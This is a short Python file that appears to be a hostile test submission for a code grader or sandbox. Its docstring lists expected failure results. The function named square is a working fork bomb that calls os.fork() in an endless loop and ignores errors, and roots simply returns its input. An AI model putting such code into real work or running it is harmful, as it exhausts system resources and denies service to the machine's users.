"""Forks until nobody can.

correct: fail 0
speed: fail 0
"""

import os


def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def roots(x):
    return x
